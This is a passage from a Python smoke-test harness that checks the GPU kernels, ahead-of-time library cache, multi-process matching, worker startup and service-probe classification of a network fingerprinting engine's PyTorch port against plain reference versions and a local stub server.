        for path in (tree / "swarm_tpu_torch" / "_build").glob(f"{kernels.LIBRARIES[name][1]}-*.so"):
            path.unlink()


def aot_step(tree: Path, spec: dict, env: dict | None = None) -> dict:
    """Run ``python3 chip_smoke.py --aot-run <spec>`` in the copy ``tree``
    → the JSON it wrote, with the process's stdout and wall seconds."""
    spec_path = tree.parent / f"{spec['arm']}.json"
    spec = {**spec, "out": str(tree.parent / f"{spec['arm']}.out.json")}
    spec_path.write_text(json.dumps(spec))
    t0 = time.perf_counter()
    proc = subprocess.run([sys.executable, "chip_smoke.py", "--aot-run", str(spec_path)],
                          cwd=tree, env={**os.environ, **(env or {})}, capture_output=True,
                          text=True, timeout=AOT_STEP_TIMEOUT_S)
    wall = time.perf_counter() - t0
    if proc.returncode != 0:
        raise AssertionError(f"aot {spec['arm']}: exit {proc.returncode}: "
                             f"{proc.stdout[-1500:]}{proc.stderr[-3000:]}")
    out = json.loads(Path(spec["out"]).read_text())
    out["wall_s"] = wall
    out["stdout_tail"] = proc.stdout[-600:]
    return out


def md5_exact(device: str) -> float:
    """``match_md5`` on 256 random rows of up to 2,048 bytes against its
    plain version → the largest difference (raises on any)."""
    import torch

    from swarm_tpu_torch.ops import kernels, md5

    rng = np.random.default_rng(21)
    stream = torch.from_numpy(rng.integers(0, 256, (256, 2048), dtype=np.uint8)).to(device)
    lens = torch.from_numpy(rng.integers(0, 2049, 256).astype(np.int32)).to(device)
    err = _diff(kernels.match_md5(stream, lens), md5.md5_words(stream, lens))
    if err:
        raise AssertionError(f"match_md5 differs from its plain version: {err}")
    return err


def cluster_exact(device: str) -> tuple:
    """The two cluster kernels once each at N = 65,536 JARM-like rows,
    radius 40, against their plain versions → (launches, max errors)."""
    import torch

    from swarm_tpu_torch.ops import cluster, kernels

    x = cluster.carry_packed(jarm_like_rows(np.random.default_rng(5), 65536), device)
    kernels.reset_launches()
    rho = kernels.cluster_counts(x, 40.0)
    delta, parent = cluster.nearest_denser_in_order(x, rho)
    launches = {k: kernels.LAUNCHES[k] for k in ("cluster_counts", "cluster_parent")}
    rho_p = cluster.neighbor_counts_plain(x, 40.0)
    delta_p, parent_p = cluster.nearest_denser_plain(x, rho)
    err = {"cluster_counts": _diff(rho, rho_p),
           "cluster_parent": max(float((delta.double() - delta_p.double()).abs().max()),
                                 _diff(parent, parent_p))}
    if any(err.values()) or not torch.equal(delta, delta_p):
        raise AssertionError(f"cluster kernels differ from their plain versions: {err}")
    return launches, err


def aot_worker_job(spec: dict) -> dict:
    """One ``fingerprint`` job (the blob of ``spec["blob"]``) through the
    port's ``JobProcessor`` with the spec's AOT settings, against the
    stand-in server; its kernel calls replayed against the plain
    versions, then the cluster kernels."""
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    blob = Path(spec["blob"]).read_bytes()
    stub = StubServer(blob, module="fingerprint")
    try:
        cfg = WorkerConfig(
            server_url=stub.url, api_key=API_KEY, worker_id=spec["arm"],
            modules_dir=str(REPO / "modules"), max_jobs=1, poll_interval_idle_s=0.05,
            poll_interval_busy_s=0.0, aot_backend=spec["backend"], aot_dir=spec["aot_dir"],
            aot_prewarm=True)
        proc = JobProcessor(cfg, device=spec["device"])
        kernels.reset_launches()
        with kernels.record_calls() as calls:
            proc.process_jobs()
        launches = {k: kernels.LAUNCHES[k] for k in MATCH_KERNELS}
    finally:
        stub.close()
    if stub.statuses != ["starting", "downloading", "executing", "uploading", "complete"]:
        raise AssertionError(f"aot {spec['arm']}: job statuses {stub.statuses}")
    Path(spec["out"] + ".output").write_bytes(stub.output)
    max_err = check_calls(calls)
    cl_launches, cl_err = cluster_exact(spec["device"])
    return {"launches": {**launches, **cl_launches}, "max_err": {**max_err, **cl_err},
            "calls": len(calls), "first_job_s": stub.status_times[-1] - stub.handed_at,
            "execute_s": stub.perf["execute_s"], "lines": len(stub.output.splitlines())}


def aot_run(spec_path: Path) -> int:
    """One process of the AOT phase (``--aot-run <spec>``): a worker job
    (``mode`` ``worker``) or a load of ``libs`` through an AOT client
    (``load``), counting every ``compile_library`` call and timing the
    prewarm; writes what it saw to ``spec["out"]``."""
    from swarm_tpu_torch.ops import kernels

    spec = json.loads(spec_path.read_text())
    compiles, prewarm = [], {}
    compile_library, aot_prewarm = kernels.compile_library, kernels.aot_prewarm

    def counted(sources, lib_path):
        compiles.append(lib_path.name)
        return compile_library(sources, lib_path)

    def timed():
        t0 = time.perf_counter()
        n = aot_prewarm()
        prewarm.update(libraries=n, seconds=time.perf_counter() - t0)
        return n

    kernels.compile_library, kernels.aot_prewarm = counted, timed
    if spec["mode"] == "worker":
        out = aot_worker_job(spec)
    else:
        from swarm_tpu_torch.aot import build_aot_client
        from swarm_tpu_torch.worker.runtime import WorkerConfig

        client = build_aot_client(WorkerConfig(
            aot_backend="local", aot_dir=spec["aot_dir"], worker_id=spec["arm"]))
        kernels.attach_aot(client)
        if spec["prewarm"]:
            kernels.aot_prewarm()
        t0 = time.perf_counter()
        for name in spec["libs"]:
            kernels.load_library(name)
        out = {"load_s": time.perf_counter() - t0,
               "max_err": {"match_md5": md5_exact(spec["device"])}}
    client = kernels.aot_client()
    out.update(arm=spec["arm"], compiles=compiles, prewarm=prewarm,
               counters=client.counters() if client is not None else None,
               keys={name: kernels.library_key(name) for name in kernels.LIBRARIES},
               loaded={name: Path(lib._name).name for name, lib in kernels._libs.items()})
    Path(spec["out"]).write_text(json.dumps(out))
    return 0


def gateway_writeback(blob: bytes, output: bytes) -> dict:
    """The port's ``GatewayScanCache`` on a memory tier: the job's output
    written back per target, then read back whole and re-chunked, byte
    for byte."""
    from swarm_tpu_torch.cache.tier import SharedResultTier
    from swarm_tpu_torch.gateway.qoscache import GatewayScanCache
    from swarm_tpu_torch.stores import MemoryBlobStore, MemoryStateStore

    targets = blob.decode().splitlines()
    cache = GatewayScanCache(SharedResultTier(MemoryStateStore(), MemoryBlobStore()),
                             writer_id="chip-smoke")
    t0 = time.perf_counter()
    if not cache.writeback("fingerprint", targets, output):
        raise AssertionError("gateway: the job's output was not written back")
    quarter = len(targets) // 4
    parts = [targets[i:i + quarter] for i in range(0, len(targets), quarter)]
    whole = cache.lookup_chunks("fingerprint", [targets])
    chunked = cache.lookup_chunks("fingerprint", parts)
    seconds = time.perf_counter() - t0
    lines = output.splitlines(keepends=True)
    want = [b"".join(lines[i:i + quarter]) for i in range(0, len(lines), quarter)]
    if whole != [output] or chunked != want:
        raise AssertionError("gateway: the segments read back differ from the job's output")
    return {"targets": len(targets), "bytes": len(output), "chunks_read": len(parts) + 1,
            "counters": cache.counters(), "seconds": seconds, "identical": True}


def phase_aot(plants, smi: str) -> dict:
    """The AOT library cache (``swarm_tpu_torch/aot``) on the worker's
    bring-up, over ``aot_backend=local`` (a file-backed store one host's
    processes share; the card box has no Redis).

    (a) publisher: this process, its libraries built by the build
    phase, publishes each (nvcc seconds, bytes); (b) a worker on a copy
    of the tree (:func:`aot_tree`: no kernel library) runs a 2,048-row
    ``fingerprint`` job over the ``synthetic_corpus(0)`` YAML corpus,
    first without the store (a cold worker: nvcc on each library), then
    with it (the joiner): 4 libraries prewarmed, no compile, every key
    the publisher's, the same launches and output as the cold worker's,
    every recorded call and the cluster kernels at N = 65,536 exact;
    (c) md5's blob truncated: one ``deserialize_error``, one build of md5,
    republished, exact; (d) ``SWARM_FAULT_PLAN=aot.fetch:1-3`` with md5
    missing: the breaker opens, only md5 is built, exact; (e) after
    ``bump_epoch``: a miss, a build of md5, a publish under the new
    epoch. (c)–(e) each a process, md5 only. Then the gateway's scan
    cache on (b)'s output. → {"launches": the joiner's, "max_err"}."""
    import tempfile

    from swarm_tpu_torch.aot import build_aot_client, libcache
    from swarm_tpu_torch.fingerprints.dbcache import load_or_compile
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.runtime import WorkerConfig

    t_phase = time.perf_counter()
    corpus = yaml_corpus()
    if corpus is None:
        raise AssertionError("the aot phase needs PyYAML for its corpus files")
    load_or_compile(str(corpus))  # both workers find the corpus compiled

    def step(name: str, **fields) -> None:
        emit({"phase": "aot", "step": name, **fields, "card": smi})

    max_err = {k: 0.0 for k in ("cluster_counts", "cluster_parent", *MATCH_KERNELS)}
    with tempfile.TemporaryDirectory(prefix="swarm-aot-") as root:
        root = Path(root)
        aot_dir = str(root / "store")
        tree = aot_tree(root)
        blob_path = root / "job.jsonl"
        blob = jsonl_rows(realistic_rows(JOB_ROWS, seed=11, plants=plants))
        blob_path.write_bytes(blob)
        # (a) the publisher
        publisher = build_aot_client(WorkerConfig(aot_backend="local", aot_dir=aot_dir,
                                                  worker_id="publisher"))
        kernels.attach_aot(publisher)
        try:
            published = {}
            for name in kernels.LIBRARIES:
                t0 = time.perf_counter()
                outcome = kernels.aot_publish(name)
                published[name] = {
                    "outcome": outcome, "publish_s": time.perf_counter() - t0,
                    "nvcc_s": NVCC_SECONDS.get(name),
                    "library_bytes": kernels.library_path(name).stat().st_size,
                    "key": kernels.library_key(name)}
            digests = {name: kernels.aot_digest(publisher, name) for name in kernels.LIBRARIES}
        finally:
            kernels.attach_aot(None)
        if any(p["outcome"] != "stored" for p in published.values()):
            raise AssertionError(f"aot (a): {published}")
        store = publisher._store
        index = store.list_index("g0")
        for name, d in digests.items():
            published[name]["payload_bytes"] = json.loads(index[d])["n"]
        step("a", backend="local", libraries=published, counters=publisher.counters())
        # (b) a cold worker, then the joiner, each on the copy
        env = {"SWARM_TEMPLATES_DIR": str(corpus)}
        worker = {"mode": "worker", "aot_dir": aot_dir, "blob": str(blob_path),
                  "device": AOT_DEVICE}
        cold = aot_step(tree, {**worker, "arm": "cold", "backend": "off"}, env)
        drop_kernel_libraries(tree)
        join = aot_step(tree, {**worker, "arm": "joiner", "backend": "local"}, env)
        keys = {name: p["key"] for name, p in published.items()}
        problems = []
        if join["prewarm"].get("libraries") != len(kernels.LIBRARIES):
            problems.append(f"prewarmed {join['prewarm']}")
        if "AOT prewarm: 4 executables loaded in" not in join["stdout_tail"]:
            problems.append("no prewarm line")
        if join["compiles"]:
            problems.append(f"compiled {join['compiles']}")
        if join["keys"] != keys:
            problems.append("keys differ from the publisher's")
        if set(join["loaded"]) != set(kernels.LIBRARIES):
            problems.append(f"loaded {join['loaded']}")
        if join["launches"] != cold["launches"] or any(v < 1 for v in join["launches"].values()):
            problems.append(f"launches {join['launches']} (cold: {cold['launches']})")
        cold_out = (root / "cold.out.json.output").read_bytes()
        join_out = (root / "joiner.out.json.output").read_bytes()
        if join_out != cold_out or join["lines"] != JOB_ROWS:
            problems.append("the joiner's output differs from the cold worker's")
        if problems:
            raise AssertionError(f"aot (b): {problems}")
        for name, e in join["max_err"].items():
            max_err[name] = max(max_err[name], e)
        fields = ("compiles", "prewarm", "counters", "launches", "calls", "first_job_s",
                  "execute_s", "wall_s", "max_err")
        step("b", rows=JOB_ROWS, cold={k: cold[k] for k in fields},
             joiner={k: join[k] for k in fields}, keys_equal=True, identical=True,
             nvcc_s_total=sum(p["nvcc_s"] or 0.0 for p in published.values()),
             first_job_s_saved=cold["first_job_s"] - join["first_job_s"])
        # (c) a truncated md5 blob
        load = {"mode": "load", "aot_dir": aot_dir, "device": AOT_DEVICE}
        key = f"aot/g0/{digests['md5']}"
        good = store._blobs.get(key)
        store._blobs.put(key, good[:len(good) // 2])
        drop_kernel_libraries(tree, ["md5"])
        c = aot_step(tree, {**load, "arm": "corrupt", "prewarm": False, "libs": ["md5"]})
        republished = libcache.decode_payload(store._blobs.get(key))[0] == "md5"
        cc = c["counters"]
        if (cc["deserialize_errors"] != 1 or len(c["compiles"]) != 1 or cc["published"] != 1
                or not republished):
            raise AssertionError(f"aot (c): {c['compiles']}, {cc}, republished {republished}")
        step("c", truncated_bytes=len(good) // 2, compiles=c["compiles"], counters=cc,
             republished=True, exact=True, wall_s=c["wall_s"])
        # (d) the store failing: aot.fetch:1-3
        drop_kernel_libraries(tree, ["md5"])
        d = aot_step(tree, {**load, "arm": "faults", "prewarm": True,
                            "libs": list(kernels.LIBRARIES)},
                     {"SWARM_FAULT_PLAN": "aot.fetch:1-3"})
        dc = d["counters"]
        if dc["breaker"] != "open" or len(d["compiles"]) != 1 or "md5" not in d["compiles"][0]:
            raise AssertionError(f"aot (d): {d['compiles']}, {dc}")
        step("d", plan="aot.fetch:1-3", compiles=d["compiles"], counters=dc, exact=True,
             wall_s=d["wall_s"])
        # (e) an epoch bump
        gen = store.bump_epoch()
        drop_kernel_libraries(tree, ["md5"])
        e = aot_step(tree, {**load, "arm": "epoch", "prewarm": True,
                            "libs": list(kernels.LIBRARIES)})
        ec = e["counters"]
        new_index = store.list_index(f"g{gen}")
        if (ec["fetch_misses"] != 1 or len(e["compiles"]) != 1 or ec["published"] != 1
                or len(new_index) != 1 or len(store.list_index("g0")) != len(kernels.LIBRARIES)):
            raise AssertionError(f"aot (e): {e['compiles']}, {ec}, {sorted(new_index)}")
        step("e", epoch=f"g{gen}", compiles=e["compiles"], counters=ec,
             new_epoch_entries=len(new_index), exact=True, wall_s=e["wall_s"])
        for run in (c, d, e):
            max_err["match_md5"] = max(max_err["match_md5"], run["max_err"]["match_md5"])
        step("gateway", **gateway_writeback(blob, join_out))
    emit({"phase": "aot", "max_abs_err": max_err, "seconds": time.perf_counter() - t_phase,
          "card": smi})
    return {"launches": join["launches"], "max_err": max_err}


#: the grids of the multihost phase, by the axis that spans the two
#: processes (each process drives 4 of the 8 ranks on its device)
MULTIHOST_GRIDS = {"data": (2, 2, 2), "model": (1, 2, 4), "seq": (1, 1, 8)}
#: timed calls of each grid
MULTIHOST_CALLS = 3
#: each rank process's own time limit
MULTIHOST_TIMEOUT_S = 300
#: the device both rank processes put their ranks on
MULTIHOST_DEVICE = "cuda:0"
#: the templates of the rank processes' corpus (``synthetic_corpus(0, n)``)
MULTIHOST_TEMPLATES = CORPUS_TEMPLATES


def multihost_rank(out_dir: Path, device: str, n_templates: int, n_rows: int) -> int:
    """One process of the multihost phase (``chip_smoke.py
    --multihost-rank <dir> <device> <templates> <rows>``, the triplet in
    its environment): join the group, then on each grid of
    :data:`MULTIHOST_GRIDS` over both processes (4 ranks each on
    ``device``) run the sharded match of the match corpus
    (``synthetic_corpus(0, n_templates)``) and ``n_rows`` rows, its
    planes against a one-process
    ``DeviceDB`` on the same batch and its kernel calls against their
    plain versions, ms a call and the cross-process bytes; then a refresh
    of the model grid. Writes ``rank<r>.json``."""
    import faulthandler

    import torch

    from swarm_tpu_torch.fingerprints import compile as fpc
    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.encoding import encode_batch
    from swarm_tpu_torch.ops.match import DeviceDB
    from swarm_tpu_torch.parallel import multihost
    from swarm_tpu_torch.parallel.mesh import make_mesh
    from swarm_tpu_torch.parallel.sharded import (ShardedMatcher, max_entry_len,
                                                  pad_streams_for_seq)

    faulthandler.enable()  # a crash in a collective shows its stack in the rank's log
    if not multihost.maybe_initialize_distributed(
            devices=None if torch.device(device).type == "cuda" else [device]):
        raise RuntimeError("the multi-host triplet is not set")
    rank = multihost.process_index()
    docs, plants = synthetic_corpus(0, n_templates)
    templates = [parse_template(d) for d in docs]
    db = fpc.compile_corpus(templates)
    batch = encode_batch(port_rows(realistic_rows(n_rows, seed=41, plants=plants)),
                         max_body=4096, max_header=1024, pad_rows_to=n_rows)
    streams = dict(batch.streams)
    pad_streams_for_seq(streams, 8, max_entry_len(db))
    args = (streams, batch.lengths, batch.status)

    def same(got, want) -> bool:
        return all(np.array_equal(a, b) for a, b in zip(got[:6], want[:6])) and (
            (got[6] is None) == (want[6] is None)) and all(
            np.array_equal(a, b) for a, b in zip(got[6] or (), want[6] or ()))

    single = DeviceDB(db, device=device).match(*args)
    print(f"rank {rank}: corpus and batch ready", flush=True)
    out = {"rank": rank, "backend": multihost.collective_backend(), "grids": {}}
    max_err = {k: 0.0 for k in MATCH_KERNELS}
    matchers = {}
    for axis, shape in MULTIHOST_GRIDS.items():
        mesh = make_mesh(shape, [device] * 4)
        m = ShardedMatcher(db, mesh)
        m.load_kernels()
        m.match(*args)  # warm
        kernels.reset_launches()
        with kernels.record_calls() as calls:
            planes = m.match(*args)
        launches = dict(kernels.LAUNCHES)
        if not same(planes, single):
            raise AssertionError(f"rank {rank}, {axis} grid: planes differ from DeviceDB's")
        # this process's path: phase A and the verify of its ranks, and
        # the tail's three kernels where it runs a data rank's tail
        path = MATCH_KERNELS if rank in m._owner else ("match_phase_a", "match_verify")
        if torch.device(device).type == "cuda" and any(launches[n] < 1 for n in path):
            raise AssertionError(f"rank {rank}, {axis} grid: a match kernel was not launched: "
                                 f"{launches}")
        for name, e in check_calls(calls).items():
            max_err[name] = max(max_err[name], e)
        before = dict(m.cross_process_bytes)
        ms = []
        for _ in range(MULTIHOST_CALLS):
            _sync(device)
            t0 = time.perf_counter()
            m.match(*args)
            _sync(device)
            ms.append((time.perf_counter() - t0) * 1e3)
        per_call = {k: (m.cross_process_bytes[k] - before[k]) // MULTIHOST_CALLS for k in before}
        print(f"rank {rank}: {axis} grid exact, {sorted(ms)[len(ms) // 2]:.1f} ms a call",
              flush=True)
        out["grids"][axis] = {"shape": list(shape), "multiprocess": m.multiprocess,
                              "process": mesh.process.reshape(-1).tolist(),
                              "ranks_here": len(m._mine), "exact": True,
                              "launches": launches, "calls": len(calls),
                              "ms_per_call": sorted(ms)[len(ms) // 2], "ms_calls": ms,
                              "cross_process_bytes_per_call": per_call}
        matchers[axis] = m
    new = list(templates) + [parse_template({
        "id": "refresh-probe", "info": {"name": "refresh probe", "severity": "info"},
        "http": [{"method": "GET", "path": ["{{BaseURL}}"], "matchers": [
            {"type": "word", "words": [REFRESH_NEEDLE], "part": "body"}]}]})]
    db_new, _stats = fpc.compile_corpus_delta(new, db)
    stats = matchers["model"].refresh(db_new)
    if not same(matchers["model"].match(*args), DeviceDB(db_new, device=device).match(*args)):
        raise AssertionError(f"rank {rank}: the refreshed model grid differs from DeviceDB's")
    out["refresh_model_grid"] = {k: stats[k] for k in ("uploaded_leaves", "reused_leaves",
                                                        "uploaded_bytes", "executables_kept")}
    out["max_abs_err"] = max_err
    (out_dir / f"rank{rank}.json").write_text(json.dumps(out))
    import torch.distributed as dist

    dist.destroy_process_group()
    return 0


def phase_multihost(smi: str) -> dict:
    """The mesh across processes on the one card: this script started
    twice more (:func:`multihost_rank`), the ``SWARM_COORDINATOR`` /
    ``SWARM_NUM_PROCESSES`` / ``SWARM_PROCESS_ID`` triplet set over
    localhost. Both processes put their ranks on ``cuda:0``; NCCL refuses
    two ranks on one GPU, so the group's collectives run on gloo through
    host memory. Grids where the data, the model and the seq axis span
    the processes; each process's planes exactly a one-process
    ``DeviceDB``'s on the same batch. The phase shows that the path is
    exact, not its speed: both processes share one card. Fails if
    either process exits non-zero or runs past
    :data:`MULTIHOST_TIMEOUT_S`."""
    import tempfile

    t_phase = time.perf_counter()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with tempfile.TemporaryDirectory(prefix="swarm-multihost-") as tmp:
        tmp = Path(tmp)
        procs, logs = [], []
        try:
            for rank in (0, 1):
                env = dict(os.environ, SWARM_COORDINATOR=f"127.0.0.1:{port}",
                           SWARM_NUM_PROCESSES="2", SWARM_PROCESS_ID=str(rank))
                log = open(tmp / f"rank{rank}.log", "w+")
                logs.append(log)
                procs.append(subprocess.Popen(
                    [sys.executable, str(Path(__file__).resolve()), "--multihost-rank",
                     str(tmp), MULTIHOST_DEVICE, str(MULTIHOST_TEMPLATES), str(JOB_ROWS)],
                    env=env, stdout=log, stderr=subprocess.STDOUT, cwd=str(REPO)))
            deadline = time.monotonic() + MULTIHOST_TIMEOUT_S
            for p in procs:
                p.wait(timeout=max(1.0, deadline - time.monotonic()))
        except subprocess.TimeoutExpired:
            timed_out = True
        else:
            timed_out = False
        finally:
            for p in procs:
                if p.poll() is None:
                    p.kill()
                    p.wait(timeout=30)
            texts = []
            for log in logs:
                log.seek(0)
                texts.append(log.read())
                log.close()
        if timed_out:
            raise AssertionError(f"multihost: a process ran past {MULTIHOST_TIMEOUT_S} s:\n"
                                 + "\n".join(f"rank {r}: {t[-2000:]}" for r, t in enumerate(texts)))
        if any(p.returncode != 0 for p in procs):
            raise AssertionError("multihost: " + "\n".join(
                f"rank {r} exited {p.returncode}:\n{t[-3000:]}"
                for r, (p, t) in enumerate(zip(procs, texts))))
        ranks = [json.loads((tmp / f"rank{r}.json").read_text()) for r in (0, 1)]
    backend_lines = [ln for t in texts for ln in t.splitlines()
                     if ln.startswith("torch.distributed:")]
    if any(r["backend"] != "gloo" for r in ranks) or len(backend_lines) != 2:
        raise AssertionError(f"multihost: backend {[r['backend'] for r in ranks]}, "
                             f"{backend_lines}")
    max_err = {k: max(r["max_abs_err"][k] for r in ranks) for k in MATCH_KERNELS}
    # each grid's recorded call, both processes' launches together
    launches = {axis: {k: sum(r["grids"][axis]["launches"][k] for r in ranks)
                       for k in ranks[0]["grids"][axis]["launches"]} for axis in MULTIHOST_GRIDS}
    if MULTIHOST_DEVICE.startswith("cuda") and any(
            n[k] < 1 for n in launches.values() for k in MATCH_KERNELS):
        raise AssertionError(f"multihost: a match kernel was not launched: {launches}")
    emit({"phase": "multihost", "processes": 2, "device": MULTIHOST_DEVICE,
          "backend": ranks[0]["backend"], "backend_line": backend_lines[0],
          "why": "both processes put their ranks on one card; NCCL refuses two ranks on one "
                 "GPU, so the collectives run on gloo through host memory",
          "grids": {axis: [r["grids"][axis] for r in ranks] for axis in MULTIHOST_GRIDS},
          "refresh_model_grid": [r["refresh_model_grid"] for r in ranks],
          "max_abs_err": max_err, "seconds": time.perf_counter() - t_phase, "card": smi,
          "note": "exactness across processes on one card; no speed is shown"})
    return {"launches": launches, "max_err": max_err}


#: worker arguments of the startup phase's subprocesses besides
#: ``--config`` (the worker runs on the card by default)
STARTUP_ARGS: tuple = ()


def phase_startup_worker(plants, smi: str) -> dict:
    """The worker as an operator starts it: ``python -m
    swarm_tpu_torch.worker --config <file>``, in a subprocess, against
    the stand-in server handing out one ``fingerprint`` job of 2,048
    rows over the YAML corpus of :func:`yaml_corpus` (whose compile the
    ``fingerprint_worker`` phase left in the run's compile cache). Two
    arms, each its own process: ``prewarm_modules`` empty, and
    ``fingerprint`` (the engine, its kernel libraries and its device
    layout before the first poll). Each must end ``complete`` with one
    line a row and the same output; → the seconds to the first poll,
    the first job's seconds (handed out → completed) and its
    ``execute_s``."""
    import tempfile

    corpus = yaml_corpus()
    if corpus is None:
        raise AssertionError("the startup phase needs PyYAML for its corpus files")
    dicts = realistic_rows(JOB_ROWS, seed=17, plants=plants)
    blob = jsonl_rows(dicts)
    arms: dict = {}
    outputs = {}
    with tempfile.TemporaryDirectory() as work:
        for arm, prewarm in (("no_prewarm", ""), ("prewarm", "fingerprint")):
            stub = StubServer(blob, module="fingerprint")
            cfg_path = Path(work) / f"{arm}.json"
            cfg_path.write_text(json.dumps({
                "server_url": stub.url, "api_key": API_KEY, "worker_id": f"startup-{arm}",
                "modules_dir": str(REPO / "modules"), "max_jobs": 1,
                "poll_interval_idle_s": 0.05, "poll_interval_busy_s": 0.0,
                "prewarm_modules": prewarm, "spool_dir": str(Path(work) / arm)}))
            env = dict(os.environ, SWARM_TEMPLATES_DIR=str(corpus))
            t0 = time.perf_counter()
            try:
                proc = subprocess.run(
                    [sys.executable, "-m", "swarm_tpu_torch.worker", "--config", str(cfg_path),
                     *STARTUP_ARGS],
                    cwd=REPO, env=env, capture_output=True, text=True, timeout=600)
            finally:
                stub.close()
            wall = time.perf_counter() - t0
            if proc.returncode != 0:
                raise AssertionError(f"{arm} worker exit {proc.returncode}: {proc.stderr[-2000:]}")
            if stub.statuses != ["starting", "downloading", "executing", "uploading",
                                 "complete"]:
                raise AssertionError(f"{arm} job statuses {stub.statuses}")
            if ("prewarmed module fingerprint" in proc.stdout) != bool(prewarm):
                raise AssertionError(f"{arm}: prewarm line {proc.stdout[-500:]!r}")
            outputs[arm] = stub.output
            arms[arm] = {"wall_s": wall, "to_job_s": stub.handed_at - t0,
                         "first_job_s": stub.status_times[-1] - stub.handed_at,
                         "execute_s": stub.perf["execute_s"], "rows": stub.perf.get("rows")}
    if outputs["prewarm"] != outputs["no_prewarm"]:
        raise AssertionError("the prewarmed worker's output differs")
    if len(outputs["prewarm"].decode().splitlines()) != len(dicts):
        raise AssertionError("one line a row")
    out = {"phase": "startup_worker", "rows": len(dicts), "arms": arms,
           "first_job_s_saved": arms["no_prewarm"]["first_job_s"] - arms["prewarm"]["first_job_s"],
           "identical": True, "card": smi}
    emit(out)
    return out


#: the directory under which each phase's corpus-compile cache lives
#: (``SWARM_DB_CACHE_DIR``), made empty by :func:`main`
DB_CACHE_ROOT: Path | None = None


def use_db_cache(name: str) -> Path:
    """Point the compile cache (``dbcache``) at the run's directory
    ``name``, empty the first time → its path."""
    path = DB_CACHE_ROOT / name
    os.environ["SWARM_DB_CACHE_DIR"] = str(path)
    return path


#: the production-scale service DB and its recall set, read as data
SERVICE_DB = REPO / "swarm_tpu" / "data" / "service-probes-large.txt"
SERVICE_RECALL = REPO / "swarm_tpu" / "data" / "service-probes-large.recall.json"
#: the host steps of a service batch: the match's, less md5 (the DB has
#: no md5 check, so the step never runs)
SERVICE_SPANS = tuple(s for s in MATCH_SPANS if s != "match.md5")
#: the match kernels a service batch launches (no md5 check in the DB)
SERVICE_KERNELS = ("match_phase_a", "match_verify", "match_regex_scan", "match_verdicts")
#: recall rows and engine rows of the oracle sample
SERVICE_ORACLE_ROWS = 16


def service_shape(clf) -> dict:
    """What the match kernels see of the lowered service DB, beside the
    limits of ``ops/kernels.py`` and ``csrc``; raises where it exceeds
    one (a fault of the port, to repair in the kernel or its layout)."""
    from swarm_tpu_torch.fingerprints import compile as fpc
    from swarm_tpu_torch.ops import kernels

    db = clf.engine.db
    meta, arrays = clf.engine.device._ensure_layout()
    layout = arrays["verdict"]
    shape = {
        "probes": len(clf.probes), "signatures": len(clf._matches),
        "device_templates": db.num_templates, "matchers": layout.nm, "word_slots": db.num_slots,
        "tables": len(meta.table_stream), "table_q": [int(q) for q in meta.table_q],
        "table_streams": list(meta.table_stream), "max_group": int(meta.max_group),
        "tiny_slots": int(db.stats["tiny_slots"]), "md5_checks": int(db.m_md5_check.sum()),
        "host_tail": len(db.host_always),
        "regex_variants": len(fpc.rx_variants(db)), "device_regex_matchers": len(db.rx_m_ids),
        "regex_sequences": int(db.rx_seq_matcher.shape[0]),
        "regex_lanes": int(arrays["rx"]["bytemap"].shape[2]), "r_closure": int(db.rx_max_skip_run),
        "regex_always_sequences": int(arrays["rx"]["seq_always"].sum()),
        "verdict_chunks": layout.n_chunks, "verdict_chunk_smem": layout.chunk_smem,
        "conjuncts_per_matcher": int(layout.csr["scalar_mask"].shape[1]),
        "workflow_gates": layout.has_gates,
    }
    limits = {"tables": kernels.MATCH_MAX_TABLES, "regex_variants": kernels.MATCH_MAX_VARIANTS,
              "regex_lanes": 3, "verdict_chunk_smem": kernels.MAX_SHARED_BYTES,
              "conjuncts_per_matcher": 32}
    over = {k: (shape[k], v) for k, v in limits.items() if shape[k] > v}
    if not all(1 <= q <= 8 for q in shape["table_q"]):
        over["table_q"] = (shape["table_q"], "1..8")
    if over:
        raise AssertionError(f"the service corpus exceeds kernel limits: {over}")
    shape["limits"] = limits
    return shape


def phase_service(smi: str) -> tuple:
    """Service detection at the production DB's full width on the card:
    ``ServiceClassifier`` over ``service-probes-large.txt`` (487 probes,
    12,331 signatures), its engine as the worker builds it. Built cold
    (an empty compile cache) and again warm (served by ``dbcache``);
    what the kernels see of the corpus (:func:`service_shape`); its
    first batch against the plain versions (:func:`match_case`); then
    ``classify`` of 2,048 banner rows (:func:`service_rows`: the 1,386
    recall banners, then bench.py's shapes) over a
    ``MATCH_WINDOW_S``-second window of calls, every memo cleared before
    each call (fresh content): banners/s, ms a batch by stage, device
    rows and confirms a batch; one fresh call under ``torch.profiler``;
    every recall banner's service, product and version against the
    recall file; the engine's template ids against the oracle on a
    sample; and the kernels on one fresh call's recorded calls, counted
    from zero, exact against their plain versions and timed
    (:func:`kernel_timing`). → (timing, launches, largest difference)."""
    import torch

    from swarm_tpu_torch.ops import cpu_ref, kernels
    from swarm_tpu_torch.ops.engine import _dedup_rows
    from swarm_tpu_torch.ops.service import ServiceClassifier

    cache = use_db_cache("service")
    t0 = time.perf_counter()
    cold = ServiceClassifier(db_path=str(SERVICE_DB), device="cuda")
    cold_s = time.perf_counter() - t0
    del cold
    t0 = time.perf_counter()
    clf = ServiceClassifier(db_path=str(SERVICE_DB), device="cuda")
    warm_s = time.perf_counter() - t0
    entries = [p.name for p in cache.glob("*.pkl")]
    if len(entries) != 1 or not entries[0].startswith("swarm_tpu_torch-svcdb-"):
        raise AssertionError(f"service compile cache entries {entries}")
    shape = service_shape(clf)
    eng = clf.engine
    recall = json.loads(SERVICE_RECALL.read_text())
    rows, sent = service_rows(clf, recall, JOB_ROWS)

    def fresh_classify():
        clf._classify_memo.clear()
        eng.clear_content_memos()
        return clf.classify(rows, sent)

    first = rows[: eng.batch_rows]
    uniq, _back, _keys = _dedup_rows(first)
    first_batch = match_case(eng.device, eng.encode([first[u] for u in uniq]))

    stage = {k: 0.0 for k in ("upload_s", "phase_a_s", "scalar_read_s", "phase_b_s", "collect_s")}
    collect = eng.device.collect

    def collect_and_count(out):
        planes = collect(out)
        for k in stage:
            stage[k] += eng.device.last_compact.get(k, 0.0)
        return planes

    eng.device.collect = collect_and_count
    match_s = [0.0]
    engine_match = eng.match

    def timed_match(batch):
        tm = time.perf_counter()
        try:
            return engine_match(batch)
        finally:
